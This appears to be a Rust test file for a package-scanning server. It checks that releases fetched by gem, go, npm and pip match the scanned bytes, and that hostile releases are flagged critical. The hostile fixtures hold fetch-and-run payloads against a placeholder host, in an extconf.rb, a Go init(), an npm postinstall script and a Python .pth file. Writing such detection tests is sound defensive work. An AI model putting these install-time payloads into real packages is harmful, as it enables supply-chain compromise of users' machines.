//! Packages that the ordinary clients fetch from the layout that the server reads: both get the same bytes, by their digest.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use super::registries::{Registries, Release, output, sha256};
use crate::programs;
use crate::server::Server;

const OLD: &str = "2023-01-01T00:00:00Z";
const NEW: &str = "2026-01-01T00:00:00Z";
const README: (&str, &str) = ("README.md", "# Widgets\n\nFormats numbers.\n");

/// A server that reads these registries.
fn server(registries: &Registries) -> Server {
    let mut server = Server::unstarted();
    registries.configure(&mut server);
    server.run();
    server
}

fn scan(server: &Server, target: &str) -> Value {
    let scanned = server.send("POST", "/context/package?mode=full&details=true", &json!({"target": target}));
    assert_eq!(scanned.status, 200, "{}", scanned.text());
    scanned.json()
}

/// Scans two releases, an honest one and one that attacks on installation or import, and fetches them by a client into a folder: the bytes
/// are those that were scanned, and both came from the same path.
fn assert_scanned_as_fetched(
    registries: &Registries,
    (package, releases): (&str, [&Release; 2]),
    path: impl Fn(&str) -> String,
    fetch: impl Fn(&Path, &str) -> Vec<u8>,
) {
    let server = server(registries);
    for ((version, ..), is_honest) in releases.into_iter().zip([true, false]) {
        let result = scan(&server, &format!("{package}@{version}"));
        assert_eq!(result["name"], format!("{package}@{version}"), "{result}");
        let verdict = result["verdict"].as_str().unwrap();
        if is_honest {
            assert!(["safe", "caution"].contains(&verdict) && result["threats"] == json!([]), "{result}");
        } else {
            assert_eq!(
                (verdict, &result["threats"][0]["severity"]),
                ("dangerous", &json!("critical")),
                "{result}"
            );
        }
        let folder = tempfile::tempdir().unwrap();
        let fetched = fetch(folder.path(), version);
        let checks = result["checks"].as_array().unwrap();
        let archive = checks.iter().find(|check| check["id"] == "package.archive").unwrap();
        let digests = format!("SHA-256 of the archives: {}", sha256(&fetched));
        assert_eq!(
            (&archive["outcome"], &archive["reason"]),
            (&json!("passed"), &json!(digests)),
            "{result}"
        );
        assert_eq!(registries.asked(&path(version)), 2, "the server and the client: {version}");
    }
}

#[test]
fn a_gem_that_rubygems_builds_and_fetches_is_the_one_that_is_scanned() {
    if !programs::has("gems", "gem") || !programs::has("gems", "ruby") {
        return;
    }
    let build = "require 'mkmf'\nrequire 'open-uri'\neval(URI.open('https://collect.example.dev/x').read)\ncreate_makefile('widgets')\n";
    let code = ("lib/widgets.rb", "module Widgets\n  def self.format(value)\n    value.to_s\n  end\nend\n");
    let honest: Release = ("1.0.0", OLD, &[README, code]);
    let hostile: Release = ("1.0.1", NEW, &[README, code, ("ext/widgets/extconf.rb", build)]);
    let registries = Registries::start();
    registries.publish_gems(&[honest, hostile]);
    let fetch = |folder: &Path, version: &str| {
        let mut command = Command::new("gem");
        command.args(["fetch", "acme-widgets", "--version", version, "--source", registries.url()]);
        // Its configuration and its cache of indices are below the home.
        output(command.env("HOME", folder).current_dir(folder));
        std::fs::read(folder.join(format!("acme-widgets-{version}.gem"))).unwrap()
    };
    let package = ("rubygems:acme-widgets", [&honest, &hostile]);
    assert_scanned_as_fetched(
        &registries,
        package,
        |version| format!("/gems/acme-widgets-{version}.gem"),
        fetch,
    );
}

#[test]
fn a_module_that_the_go_command_downloads_is_the_one_that_is_scanned() {
    const MODULE: &str = "example.com/acme/widgets";
    if !programs::has("Go modules", "go") {
        return;
    }
    let file = ("go.mod", "module example.com/acme/widgets\n\ngo 1.20\n");
    let code = "package widgets\n\nimport \"strconv\"\n\nfunc Format(value int) string { return strconv.Itoa(value) }\n";
    let attack = "package widgets\n\nimport \"os/exec\"\n\nfunc init() {\n\texec.Command(\"sh\", \"-c\", \"curl -s https://collect.example.dev/x | sh\").Run()\n}\n";
    let honest: Release = ("v1.0.0", OLD, &[file, README, ("widgets.go", code)]);
    let hostile: Release = ("v1.0.1", NEW, &[file, README, ("widgets.go", code), ("start.go", attack)]);
    let registries = Registries::start();
    registries.publish_module(MODULE, &[honest, hostile]);
    let fetch = |folder: &Path, version: &str| {
        let mut command = Command::new("go");
        command.args(["mod", "download", "-json", &format!("{MODULE}@{version}")]).current_dir(folder);
        command.envs([("GOSUMDB", "off"), ("GONOSUMDB", "*"), ("GOTOOLCHAIN", "local"), ("GOENV", "off")]);
        command.envs([
            ("GOPROXY", registries.url()),
            ("GOFLAGS", "-mod=mod -modcacherw"),
            ("GOINSECURE", "*"),
        ]);
        command.env("GOMODCACHE", folder.join("modules")).env("GOCACHE", folder.join("cache"));
        let report: Value = serde_json::from_str(&output(&mut command)).unwrap();
        let archive = std::fs::read(report["Zip"].as_str().unwrap()).unwrap();
        let sum = ::registries::module_sum(std::io::Cursor::new(&archive)).unwrap();
        assert_eq!(report["Sum"], sum.to_string(), "the sum of go.sum");
        archive
    };
    let package = (&*format!("go:{MODULE}"), [&honest, &hostile]);
    assert_scanned_as_fetched(&registries, package, |version| format!("/{MODULE}/@v/{version}.zip"), fetch);
}

#[test]
fn a_package_that_npm_packs_and_fetches_is_the_one_that_is_scanned() {
    if !programs::has("packages of npm", "npm") {
        return;
    }
    let code = ("index.js", "module.exports = (value) => String(value);\n");
    let manifest = r#"{"name": "acme-widgets", "version": "1.0.0", "main": "index.js"}"#;
    let hooked = r#"{"name": "acme-widgets", "version": "1.0.1", "main": "index.js", "scripts": {"postinstall": "node setup.js"}}"#;
    let setup = ("setup.js", "require('child_process').exec('curl -s https://collect.example.dev/x | sh')\n");
    let honest: Release = ("1.0.0", OLD, &[("package.json", manifest), README, code]);
    let hostile: Release = ("1.0.1", NEW, &[("package.json", hooked), README, code, setup]);
    let registries = Registries::start();
    registries.publish_npm("acme-widgets", &[honest, hostile]);
    let fetch = |folder: &Path, version: &str| {
        // Of a release in a registry, this writes the archive as it was sent, and verifies its checksum.
        let mut command = Command::new("npm");
        command.args(["pack", &format!("acme-widgets@{version}"), "--registry", registries.url(), "--cache"]);
        output(command.arg(folder.join("cache")).current_dir(folder));
        std::fs::read(folder.join(format!("acme-widgets-{version}.tgz"))).unwrap()
    };
    let path = |version: &str| format!("/acme-widgets/-/acme-widgets-{version}.tgz");
    assert_scanned_as_fetched(&registries, ("npm:acme-widgets", [&honest, &hostile]), path, fetch);
}

#[test]
fn a_wheel_that_pip_downloads_is_the_one_that_is_scanned() {
    let python = super::mails::python();
    if !programs::has("wheels", python.to_str().unwrap()) {
        return;
    }
    let code = ("widgets.py", "def form(value):\n    return str(value)\n");
    // Executed by every start of Python.
    let start = (
        "widgets.pth",
        "import urllib.request; exec(urllib.request.urlopen('https://collect.example.dev/x').read())\n",
    );
    let honest: Release = ("1.0.0", OLD, &[code]);
    let hostile: Release = ("1.0.1", NEW, &[code, start]);
    let registries = Registries::start();
    registries.publish_wheels("acme-widgets", &[honest, hostile]);
    let file = |version: &str| format!("acme_widgets-{version}-py3-none-any.whl");
    let fetch = |folder: &Path, version: &str| {
        let mut command = Command::new(&python);
        command.args(["-m", "pip", "download", "--quiet", "--no-deps", "--isolated", "--no-cache-dir"]);
        command.args(["--only-binary", ":all:", "--index-url", &format!("{}/simple/", registries.url())]);
        output(command.arg(format!("acme-widgets=={version}")).current_dir(folder));
        std::fs::read(folder.join(file(version))).unwrap()
    };
    let path = |version: &str| format!("/files/{}", file(version));
    assert_scanned_as_fetched(&registries, ("pypi:acme-widgets", [&honest, &hostile]), path, fetch);
}
